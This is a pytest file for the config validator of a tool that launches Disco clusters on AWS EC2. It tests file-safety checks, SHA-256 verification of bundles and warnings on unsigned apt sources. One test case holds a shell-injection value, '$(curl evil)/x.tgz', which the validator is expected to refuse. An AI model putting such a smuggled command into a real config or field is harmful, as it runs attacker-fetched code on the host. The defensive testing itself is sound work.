    assert any("DISCO_TARBALL is ignored" in w for w in c.warnings)
    assert any("insecure" in w for w in c.warnings)


# --------------------------------------------------------------------------- Config


def test_state_dir_is_per_tag_key_and_file_name_safe(tmp_path, monkeypatch):
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.delenv("AWS_ENDPOINT_URL_EC2", raising=False)
    monkeypatch.delenv("AWS_ENDPOINT_URL", raising=False)
    c = parse_config(with_(TAG_KEY="disco-prod", REGION="eu-west-1"))
    assert c.state_dir == tmp_path / ".disposabledisco" / "disco-prod@eu-west-1"
    a = parse_config(with_(TAG_KEY="team/a b", STATE_DIR="/var/tmp/dd")).state_dir
    b = parse_config(with_(TAG_KEY="team_a_b", STATE_DIR="/var/tmp/dd")).state_dir
    assert a.parent == Path("/var/tmp/dd") and a != b
    assert "/" not in a.name and " " not in a.name and a.name.startswith("team_a_b-")
    dots = parse_config(with_(TAG_KEY="..", STATE_DIR="/s")).state_dir
    assert dots.parent == Path("/s") and not dots.name.startswith(".")


def test_relative_paths_are_relative_to_the_config_file(tmp_path):
    path = write(tmp_path, json.dumps(with_(STATE_DIR="state")))
    c = load_config(path)
    assert c.state_dir.parent == tmp_path / "state"
    assert c.state_dir.name.startswith("disco-test@")
    assert c.resolve_path("disco.tgz") == tmp_path / "disco.tgz"
    assert c.resolve_path("/abs/x") == Path("/abs/x")


def test_config_is_read_only_and_copies():
    data = with_(NUM_SLAVES=2)
    c = parse_config(data)
    data["NUM_SLAVES"] = 9
    assert c["NUM_SLAVES"] == 2
    with pytest.raises(TypeError):
        c.values["NUM_SLAVES"] = 3  # type: ignore[index]
    with pytest.raises(AttributeError):
        c.path = None  # type: ignore[misc]
    assert pickle.loads(pickle.dumps(c)) == c
    assert copy.deepcopy(c) == c and hash(copy.deepcopy(c)) == hash(c)
    assert c.get("NOPE", 5) == 5


def test_config_error_str_joins_problems():
    err = ConfigError(["a is bad; use b.", "c is bad; use d."])
    assert err.problems == ["a is bad; use b.", "c is bad; use d."]
    assert str(err) == "a is bad; use b.\nc is bad; use d."


def test_hand_built_config_keeps_working():
    values = dict(parse_config(BASE).values)
    c = Config(values, path="x.json")
    assert isinstance(c.path, Path) and c.master.instance_type == "m5.large"


def test_schema_patterns_reject_a_trailing_newline_like_editors_do():
    assert cfgmod._compiled("^a$").search("a") and not cfgmod._compiled("^a$").search("a\n")
    assert cfgmod._compiled("^[$]$").search("$")


# --------------------------------------------------------------------------- wrapper


def test_create_config_prints_the_default_config(tmp_path):
    pytest.importorskip("disposabledisco.cli")
    env = {**os.environ, "HOME": str(tmp_path)}
    result = subprocess.run([sys.executable, str(REPO / "create_config.py")], env=env,
                            capture_output=True, text=True, timeout=60, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    printed = json.loads(result.stdout)
    parse_config(printed)
    assert printed["AMI"] == PLACEHOLDER_AMI


def test_create_config_is_executable():
    path = REPO / "create_config.py"
    assert path.read_text().startswith("#!/usr/bin/env python3\n")
    assert os.stat(path).st_mode & stat.S_IXUSR


# --------------------------------------------------------------------------- hostile files


def test_a_fifo_is_refused_without_waiting_for_a_writer(tmp_path):
    fifo = tmp_path / "config.json"
    os.mkfifo(fifo)
    (problem,) = load_problems(fifo)
    assert str(fifo) in problem and "FIFO" in problem and "not a regular file" in problem


def test_a_device_is_refused_without_reading_it():
    (problem,) = load_problems("/dev/zero")
    assert "/dev/zero is a character device, not a regular file" in problem


def test_a_file_over_the_size_cap_is_refused(tmp_path):
    path = tmp_path / "big.json"
    path.write_text(json.dumps({**BASE, "POST_INIT": "#" * cfgmod.MAX_CONFIG_BYTES}))
    (problem,) = load_problems(path)
    assert "larger than 1024 KiB" in problem and str(path) in problem
    path.write_text(json.dumps({**BASE, "POST_INIT": "#" * (cfgmod.MAX_CONFIG_BYTES - 200)}))
    load_config(path)  # just under the cap is read


def test_an_integer_too_long_for_python_names_its_field(tmp_path):
    path = write(tmp_path, '{"AMI": "ami-12345678", "KEY_NAME": "k", "TAG_KEY": "t", '
                           '"NUM_SLAVES": ' + "9" * 5000 + "}")
    (problem,) = load_problems(path)
    assert problem.startswith(f"{path}: NUM_SLAVES is a whole number of 5000 digits")
    assert "from 0 to 1000" in problem and len(problem) < 300
    groups = json.dumps({**BASE, "SLAVE_GROUPS": [{"INSTANCE_TYPE": "m5.large", "COUNT": 1}]})
    nested = write(tmp_path, groups.replace('"COUNT": 1', '"COUNT": -' + "1" * 4400))
    (problem,) = load_problems(nested)
    assert "SLAVE_GROUPS[0].COUNT is a whole number of 4400 digits" in problem


def test_a_huge_python_integer_is_refused_too():
    (problem,) = problems_of(with_(SSH_PORT=10 ** 5000))
    assert problem.startswith("SSH_PORT is a whole number of thousands of digits")


@pytest.mark.parametrize("depth", [150, 5000, 200_000])
def test_deep_nesting_names_the_key(tmp_path, depth):
    path = write(tmp_path, '{"AMI": "ami-12345678", "KEY_NAME": "k", "TAG_KEY": "t", '
                           '"DISCO_SETTINGS": ' + "[" * depth + "]" * depth + "}")
    (problem,) = load_problems(path)
    assert "more than 100 levels deep" in problem
    if depth < 900:  # Python's own decoder gives up near its recursion limit: no key then
        assert problem.startswith(f"{path}: DISCO_SETTINGS nests")


def test_deep_nesting_from_python_data_is_refused_without_recursion():
    deep: list = []
    for _ in range(100_000):
        deep = [deep]
    (problem,) = problems_of(with_(SLAVE_GROUPS=deep))
    assert problem.startswith("SLAVE_GROUPS nests lists or objects more than 100 levels")


@pytest.mark.parametrize("text,field", [
    ('"POST_INIT": "\\ud800"', "POST_INIT"),
    ('"POST_INIT": "ok \\udfff then"', "POST_INIT"),
    ('"ADDITIONAL_PACKAGES": ["git", "\\udc80"]', "ADDITIONAL_PACKAGES[1]"),
    ('"DISCO_SETTINGS": {"DISCO_X": "\\ud83d"}', "DISCO_SETTINGS.DISCO_X"),
    ('"DISCO_SETTINGS": {"\\ud83dX": 1}', "DISCO_SETTINGS has a key"),
    ('"AWS_SECRET": "\\ud800secret"', "AWS_SECRET"),
])
def test_lone_surrogates_are_refused_by_validate(tmp_path, text, field):
    path = write(tmp_path, '{"AMI": "ami-12345678", "KEY_NAME": "k", "TAG_KEY": "t", '
                           + text + "}")
    (problem,) = load_problems(path)
    assert problem.startswith(f"{path}: {field}") and "lone surrogate" in problem
    problem.encode("utf-8")  # the message itself is printable text
    assert "secret" not in problem


def test_a_real_astral_character_is_still_text(tmp_path):
    path = write(tmp_path, json.dumps({**BASE, "POST_INIT": "echo \U0001F600"}))
    assert load_config(path)["POST_INIT"] == "echo \U0001F600"


def test_odd_unicode_in_a_message_stays_on_one_printable_line():
    (problem,) = problems_of(with_(AMI="ami-\u2028\u0085\x7f\u200b"))
    assert problem.isprintable() and len(problem.splitlines()) == 1


# --------------------------------------------------------------------------- supply chain

SHA = "0123456789abcdef" * 4


@pytest.mark.parametrize("tarball", ["https://example.org/disco.tgz", "s3://bucket/disco.tgz"])
def test_tarball_sha256_goes_with_a_download(tarball):
    c = parse_config(with_(DISCO_INSTALL="tarball", DISCO_TARBALL=tarball,
                           DISCO_TARBALL_SHA256=SHA.upper()))
    assert c["DISCO_TARBALL_SHA256"] == SHA.upper() and c.warnings == ()


def test_tarball_sha256_without_a_tarball_install_is_a_warning():
    (warning,) = parse_config(with_(DISCO_TARBALL_SHA256=SHA)).warnings
    assert warning.startswith("DISCO_TARBALL_SHA256 is ignored") and '"preinstalled"' in warning


def test_a_local_tarball_must_match_its_sha256(tmp_path):
    tarball = tmp_path / "disco.tgz"
    tarball.write_bytes(b"disco source")
    good = hashlib.sha256(b"disco source").hexdigest()
    path = write(tmp_path, json.dumps(with_(DISCO_INSTALL="tarball", DISCO_TARBALL="disco.tgz",
                                            DISCO_TARBALL_SHA256=good.upper())))
    load_config(path)
    tarball.write_bytes(b"disco source, changed")
    (problem,) = load_problems(path)
    assert f"DISCO_TARBALL_SHA256 is {good}, but {tarball} has sha256 " in problem


@pytest.mark.parametrize("source,words", [
    ("deb [trusted=yes] https://apt.example.org/disco stable main", ["trusted=yes"]),
    ("deb [arch=amd64 allow-insecure=yes] https://apt.example.org/d ./", ["allow-insecure=yes"]),
    ("deb [allow-weak=yes signed-by=/k.gpg] https://apt.example.org/d ./", ["allow-weak=yes"]),
    ("deb http://apt.example.org/disco stable main", ["plain http:// without signed-by="]),
    ("deb [arch=amd64] http://apt.example.org/disco stable main", ["plain http://"]),
    ("deb [trusted=yes] http://apt.example.org/disco ./", ["trusted=yes", "plain http://"]),
])
def test_insecure_apt_sources_are_warned_about(source, words):
    warnings = parse_config(with_(DISCO_INSTALL="apt", DISCO_APT_SOURCE=source)).warnings
    text = " ".join(warnings)
    assert all(w in text for w in words), warnings
    assert all(w.startswith("DISCO_APT_SOURCE ") for w in warnings)
    assert len(warnings) == len(words)


@pytest.mark.parametrize("source", [
    "deb https://apt.example.org/disco stable main",
    "deb [signed-by=/usr/share/keyrings/disco.gpg] http://apt.example.org/disco stable main",
    "deb [trusted=no] https://apt.example.org/disco stable main",
    "deb file:///srv/repo ./",
])
def test_signed_apt_sources_are_not_warned_about(source):
    assert parse_config(with_(DISCO_INSTALL="apt", DISCO_APT_SOURCE=source)).warnings == ()


# --------------------------------------------------------------------------- DISCO_SOURCE

def test_init_writes_source_while_a_config_without_the_key_stays_preinstalled():
    """Configs older than "source" left DISCO_INSTALL out and meant the AMI's Disco."""
    printed = json.loads(render_default_config())
    assert printed["DISCO_INSTALL"] == "source" and printed["DISCO_SOURCE"] is None
    assert parse_config(printed)["DISCO_SOURCE_BASE_URL"] == "https://github.com"
    assert parse_config(with_())["DISCO_INSTALL"] == "preinstalled"


@pytest.mark.parametrize("source", [
    "~/disco-src.tar.gz", "https://example.org/disco-src.tar.gz?sig=ab", "s3://bkt/disco.tgz"])
def test_source_bundle_forms(source):
    c = parse_config(with_(DISCO_INSTALL="source", DISCO_SOURCE=source,
                           DISCO_SOURCE_SHA256=SHA))
    assert (c["DISCO_SOURCE"], c.warnings) == (source, ())


@pytest.mark.parametrize("key,value,words", [
    ("DISCO_SOURCE", "http://example.org/disco-src.tar.gz", "an https:// URL"),
    ("DISCO_SOURCE", "ftp://example.org/disco-src.tar.gz", "an https:// URL"),
    ("DISCO_SOURCE", "$(curl evil)/x.tgz", "no quotes or shell characters"),
    ("DISCO_SOURCE_SHA256", "abc", "64 hex digits"),
    ("DISCO_SOURCE_BASE_URL", "http://github.com", "an https:// URL"),
    ("DISCO_SOURCE_BASE_URL", "file://relative", "file:///a/folder"),
])
def test_bad_source_values_are_one_sentence_naming_the_key(key, value, words):
    (problem,) = problems_of(with_(DISCO_INSTALL="source", **{key: value}))
    assert problem.startswith(key) and words in problem, problem


@pytest.mark.parametrize("key", ["DISCO_SOURCE", "DISCO_SOURCE_SHA256"])
def test_source_keys_without_source_install_are_a_warning(key):
    (warning,) = parse_config(with_(**{key: SHA if key.endswith("SHA256") else "b.tgz"})
                              ).warnings
    assert warning == f'{key} is ignored because DISCO_INSTALL is "preinstalled", not "source".'


def test_a_local_source_bundle_must_exist_be_a_file_and_match_its_sha256(tmp_path):
    config = with_(DISCO_INSTALL="source", DISCO_SOURCE="src.tgz")
    path = write(tmp_path, json.dumps(config))
    (problem,) = load_problems(path)
    assert problem == (f"{path}: DISCO_SOURCE {tmp_path / 'src.tgz'} does not exist; give the "
                       "path of a Disco source bundle file, or an https:// or s3:// URL.")
    (tmp_path / "src.tgz").mkdir()
    (problem,) = load_problems(path)
    assert "is a folder, not a source bundle" in problem
    (tmp_path / "src.tgz").rmdir()
    (tmp_path / "src.tgz").write_bytes(b"bundle")
    good = hashlib.sha256(b"bundle").hexdigest()
    load_config(write(tmp_path, json.dumps({**config, "DISCO_SOURCE_SHA256": good.upper()})))
    path = write(tmp_path, json.dumps({**config, "DISCO_SOURCE_SHA256": SHA}))
    (problem,) = load_problems(path)
    assert problem == (f"{path}: DISCO_SOURCE_SHA256 is {SHA}, but {tmp_path / 'src.tgz'} has "
                       f"sha256 {good}; give the source bundle you meant, or update "
                       "DISCO_SOURCE_SHA256.")


@pytest.mark.parametrize("change", [
    {"DISCO_SOURCE": "missing.tgz"}, {"DISCO_SOURCE": "http://example.org/x.tgz"},
    {"DISCO_SOURCE": "bundle.tgz", "DISCO_SOURCE_SHA256": SHA}])
def test_cli_refuses_a_bad_source_with_exit_2_before_any_aws_call(tmp_path, change):
    pytest.importorskip("disposabledisco.cli")
    (tmp_path / "bundle.tgz").write_bytes(b"bundle")
    path = write(tmp_path, json.dumps(with_(DISCO_INSTALL="source", **change)))
    env = {**os.environ, "HOME": str(tmp_path), "AWS_EC2_METADATA_DISABLED": "true",
           "AWS_ENDPOINT_URL_EC2": "http://127.0.0.1:9"}  # any EC2 call would fail loudly
    result = subprocess.run([sys.executable, "-m", "disposabledisco", "up", str(path)],
                            env=env, capture_output=True, text=True, timeout=60, cwd=tmp_path)
    assert result.returncode == 2, (result.stdout, result.stderr)
    assert "DISCO_SOURCE" in result.stderr and "127.0.0.1:9" not in result.stderr


# --------------------------------------------------------------------------- rules, pinned
# Exact texts, problem paths and boundaries of the rules in config.py, so that a changed
# limit, a problem filed under another path (which decides its order and which message wins
# on a path) or a reworded fix is caught (docs/mutation.md).


@pytest.fixture(autouse=True)
def _fresh_pattern_cache():
    """`_compiled` caches translated patterns for the whole process: empty it so every test
    runs `_ecma_to_python` itself instead of reading what an earlier test translated."""
    cfgmod._compiled.cache_clear()


@pytest.mark.parametrize("pattern,python", [
    ("^a$", r"^a\Z"),
    ("a$|b$", r"a\Z|b\Z"),
    (r"^\$x$", r"^\$x\Z"),
    (r"a\\$", r"a\\\Z"),
    ("[$]$", r"[$]\Z"),
    ("[a$]$", r"[a$]\Z"),
    (r"[\]$]$", r"[\]$]\Z"),
    ("[a][$]", "[a][$]"),
    ("", ""),
])
def test_ecma_dollar_is_end_of_string_outside_classes_and_escapes(pattern, python):
    assert cfgmod._ecma_to_python(pattern) == python


def group(itype, count):
    return {"INSTANCE_TYPE": itype, "COUNT": count}


MERGE = ("a slave group is named by its instance type, so merge the two into one group and "
         "add up their COUNT.")
CREDENTIALS = ("give both, or better remove {} and use AWS_PROFILE, the environment or an "
               "instance role.")

# (case id, data, exactly the problems _semantic_problems files, as (path, message))
SEMANTIC = [
    ("nothing to say", {}, []),
    ("repeated type after a non-object group",
     {"SLAVE_GROUPS": [5, group("c5.large", 2), group("c5.large", 1)]},
     [(("SLAVE_GROUPS", 2, "INSTANCE_TYPE"), 'SLAVE_GROUPS[2].INSTANCE_TYPE is "c5.large", '
       f"already used by SLAVE_GROUPS[1]; {MERGE}")]),
    ("a non-text type is left to the schema", {"SLAVE_GROUPS": [group(1, 1), group(1, 1)]}, []),
    ("exactly 1000 slaves", {"SLAVE_GROUPS": [group("c5.large", 999), group("m5.large", 1)]},
     []),
    ("1001 slaves", {"SLAVE_GROUPS": [group("c5.large", 1000), group("m5.large", 1)]},
     [(("SLAVE_GROUPS",), "SLAVE_GROUPS asks for 1001 slaves in all; use at most 1000 in "
                          "total.")]),
    ("true and negative counts add nothing",
     {"SLAVE_GROUPS": [group("c5.large", True), group("m5.large", -4)], "NUM_SLAVES": 0}, []),
    ("NUM_SLAVES 0 against groups", {"SLAVE_GROUPS": [group("c5.large", 2)], "NUM_SLAVES": 0},
     [(("NUM_SLAVES",), "NUM_SLAVES is 0 but SLAVE_GROUPS adds up to 2 slaves; SLAVE_GROUPS "
                        "decides the slaves, so remove NUM_SLAVES (or set it to 2).")]),
    ("NUM_SLAVES true is left to the schema",
     {"SLAVE_GROUPS": [group("c5.large", 2)], "NUM_SLAVES": True}, []),
    ("secret without access", {"AWS_ACCESS": None, "AWS_SECRET": "x"},
     [(("AWS_ACCESS",), "AWS_SECRET is set but AWS_ACCESS is not; "
                        + CREDENTIALS.format("AWS_SECRET"))]),
    ("access without secret", {"AWS_ACCESS": "x"},
     [(("AWS_SECRET",), "AWS_ACCESS is set but AWS_SECRET is not; "
                        + CREDENTIALS.format("AWS_ACCESS"))]),
    ("both credentials", {"AWS_ACCESS": "x", "AWS_SECRET": "y"}, []),
    ("cap below the default bid", {"MAX_HOURLY_COST": 0.05},
     [(("MAX_HOURLY_COST",), "MAX_HOURLY_COST is 0.05, less than the master's bid alone "
                             '(MAX_BID "0.10"); raise MAX_HOURLY_COST or lower MAX_BID.')]),
    ("cap below a given bid", {"MAX_HOURLY_COST": "0.5", "MAX_BID": 1},
     [(("MAX_HOURLY_COST",), 'MAX_HOURLY_COST is "0.5", less than the master\'s bid alone '
                             "(MAX_BID 1); raise MAX_HOURLY_COST or lower MAX_BID.")]),
    ("cap equal to the bid", {"MAX_HOURLY_COST": "0.10", "MAX_BID": 0.1}, []),
    ("cap above the default bid", {"MAX_HOURLY_COST": 0.5}, []),
    ("on-demand master has no bid", {"MAX_HOURLY_COST": 0.05, "MASTER_MARKET": "on-demand"},
     []),
    ("foreign tag key", {"TAG_KEY": "eks:x"},
     [(("TAG_KEY",), 'TAG_KEY is "eks:x", but Amazon EKS owns keys starting "eks:", so this '
                     "cluster would act on instances it does not own; use a key of its own, "
                     'e.g. "disco-<something unique>".')]),
    ("local zone of the region", {"REGION": "us-east-1", "AVAILABILITY_ZONE": "us-east-1-bos-1a"},
     []),
    ("zone of a longer region number",
     {"REGION": "us-east-1", "AVAILABILITY_ZONE": "us-east-10a"},
     [(("AVAILABILITY_ZONE",), 'AVAILABILITY_ZONE is "us-east-10a", which is not in REGION '
                               '"us-east-1"; use a zone of that region like us-east-1a.')]),
    ("idle check without Disco", {"IDLE_MINUTES": 30, "DISCO_INSTALL": "none"},
     [(("IDLE_MINUTES",), 'IDLE_MINUTES is set but DISCO_INSTALL is "none", so there is no '
                          "Disco on the master to ask whether jobs run; set IDLE_MINUTES to "
                          "null or install Disco.")]),
    ("idle check with Disco", {"IDLE_MINUTES": 30}, []),
    ("managed Disco setting", {"DISCO_SETTINGS": {"DISCO_PORT": 1, "DISCO_X": 2}},
     [(("DISCO_SETTINGS", "DISCO_PORT"), "DISCO_SETTINGS.DISCO_PORT is managed by "
                                         "disposabledisco; set the top-level DISCO_PORT key "
                                         "instead.")]),
]


@pytest.mark.parametrize("data,expected", [c[1:] for c in SEMANTIC],
                         ids=[c[0] for c in SEMANTIC])
def test_semantic_problems_paths_texts_and_limits(data, expected):
    assert cfgmod._semantic_problems(data) == expected


@pytest.mark.parametrize("value,price", [
    (0.01, True), (1, True), ("0.10", True), ("2", True),
    (0, False), (0.0, False), (-1, False), (0.5 - 0.5, False), ("0", False), ("0.00", False),
    (True, False), (float("inf"), False), (float("-inf"), False), (float("nan"), False),
    (None, False), ("ten", False),
])
def test_is_price_means_finite_and_above_zero(value, price):
    assert cfgmod._is_price(value) is price


def test_non_finite_numbers_are_found_at_any_depth_under_their_path():
    data = {"A": [1, float("nan")], "B": {"C": float("inf")}, "D": 2.5}
    assert list(cfgmod._non_finite(data)) == [
        (("A", 1), "A[1] is NaN, which is not a JSON number; use a finite number."),
        (("B", "C"), "B.C is Infinity, which is not a JSON number; use a finite number."),
    ]


@pytest.mark.parametrize("tag,owner", [
    ("NAME", '"Name" is the instance name tag that most instances in an account carry'),
    ("team.Kubernetes.io/role",
     'Kubernetes owns keys under "*.kubernetes.io/" and "*.k8s.io/"'),
    ("node.k8s.io/x", 'Kubernetes owns keys under "*.kubernetes.io/" and "*.k8s.io/"'),
    ("Ray-cluster", 'Ray\'s cluster launcher owns keys starting "ray-"'),
    ("names", None), ("disco-kubernetes.io", None), ("my-ray-x", None),
])
def test_tag_key_owner_names_who_owns_the_key(tag, owner):
    assert cfgmod._tag_key_owner(tag) == owner


def test_redact_hides_secrets_of_four_characters_or_more():
    assert cfgmod._redact("abcd abc abcd", ["abcd", "abc"]) == "<hidden> abc <hidden>"
    assert cfgmod._redact("abc", ["abc", ""]) == "abc"


@pytest.mark.parametrize("value,expected", [
    (2.0, 2), (2.5, 2.5), (None, None), (True, True), ("3", "3"), (7, 7),
])
def test_as_int_turns_only_whole_floats_into_ints(value, expected):
    got = cfgmod._as_int(value)
    assert got == expected and type(got) is type(expected)


def sha8(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()[:8]


@pytest.mark.parametrize("name,folder", [
    ("Disco-A_1.x", "Disco-A_1.x"),
    ("x.", "x."),
    ("Xy", "Xy"),
    ("team/a b", f"team_a_b-{sha8('team/a b')}"),
    (".hidden", f"hidden-{sha8('.hidden')}"),
    ("..", f"_-{sha8('..')}"),
])
def test_safe_file_name_keeps_safe_names_and_hashes_altered_ones(name, folder):
    """State folders are named by this: a changed rule would orphan existing state."""
    assert cfgmod._safe_file_name(name) == folder


def test_resolve_path_without_a_file_is_relative_to_the_current_folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    c = parse_config(BASE)
    assert c.resolve_path("x.tgz") == tmp_path / "x.tgz"
    assert c.resolve_path("~/y") == tmp_path / "home" / "y"


PLACEHOLDER_WARNING = (f"AMI is still the placeholder {PLACEHOLDER_AMI} written by init; set it "
                       "to an Ubuntu AMI of your region.")
INSECURE_APT = ("DISCO_APT_SOURCE sets trusted=yes, so apt installs Disco without checking its "
                "signature; remove it and use signed-by= with the repository's key.")

# (case id, overrides, exactly the warnings, in order)
WARNINGS = [
    ("placeholder AMI", {"AMI": PLACEHOLDER_AMI}, [PLACEHOLDER_WARNING]),
    ("placeholder key pair", {"KEY_NAME": cfgmod.PLACEHOLDER_KEY_NAME},
     ['KEY_NAME is still the placeholder "your-ec2-key-pair" written by init; set it to the '
      "name of your EC2 key pair in REGION."]),
    ("slave type beside groups",
     {"SLAVE_INSTANCE_TYPE": "m5.xlarge", "SLAVE_GROUPS": [group("c5.large", 1)]},
     ["SLAVE_INSTANCE_TYPE is ignored because SLAVE_GROUPS gives the slaves' types; "
      "remove it."]),
    ("slave type alone", {"SLAVE_INSTANCE_TYPE": "m5.xlarge"}, []),
    ("tarball with apt",
     {"DISCO_TARBALL": "x.tgz", "DISCO_INSTALL": "apt", "DISCO_APT_SOURCE": "deb https://a/ ./"},
     ['DISCO_TARBALL is ignored because DISCO_INSTALL is "apt", not "tarball".']),
    ("insecure apt source not used",
     {"DISCO_APT_SOURCE": "deb [trusted=yes] http://x/ ./"},
     ['DISCO_APT_SOURCE is ignored because DISCO_INSTALL is "preinstalled", not "apt".']),
    ("insecure apt source after another warning",
     {"AMI": PLACEHOLDER_AMI, "DISCO_INSTALL": "apt",
      "DISCO_APT_SOURCE": "deb [trusted=yes] https://x/ ./"},
     [PLACEHOLDER_WARNING, INSECURE_APT]),
    ("old tag key and insecure host keys",
     {"TAG_KEY": "disposabledisco", "HOST_KEY_POLICY": "insecure"},
     ['TAG_KEY is "disposabledisco", the default of earlier versions that other configs may '
      "share, and clusters sharing a TAG_KEY take each other's nodes; keep it only if no "
      "other config in this account uses it.",
      'HOST_KEY_POLICY is "insecure": SSH host keys are not checked, so use it only for '
      "tests."]),
]


@pytest.mark.parametrize("overrides,expected", [c[1:] for c in WARNINGS],
                         ids=[c[0] for c in WARNINGS])
def test_warnings_conditions_and_texts(overrides, expected):
    assert list(parse_config(with_(**overrides)).warnings) == expected


def test_normalized_groups_get_defaults_and_a_copy_of_their_instance_types():
    pools = ["c5.large", "c6i.large"]
    c = parse_config(with_(LAUNCH_API="fleet", MAX_BID="0.2", SLAVE_MULTIPLIER=3, SLAVE_GROUPS=[
        {"INSTANCE_TYPE": "c5.large", "COUNT": 2.0, "INSTANCE_TYPES": pools},
        {"INSTANCE_TYPE": "m5.large", "COUNT": 1, "MAX_BID": 1, "MULTIPLIER": 2}]))
    pools.append("m6i.large")
    assert c["SLAVE_GROUPS"] == [
        {"INSTANCE_TYPE": "c5.large", "COUNT": 2, "MAX_BID": 0.2, "MULTIPLIER": 3,
         "INSTANCE_TYPES": ["c5.large", "c6i.large"]},
        {"INSTANCE_TYPE": "m5.large", "COUNT": 1, "MAX_BID": 1.0, "MULTIPLIER": 2},
    ]
    assert type(c["SLAVE_GROUPS"][0]["COUNT"]) is int and c["NUM_SLAVES"] == 3
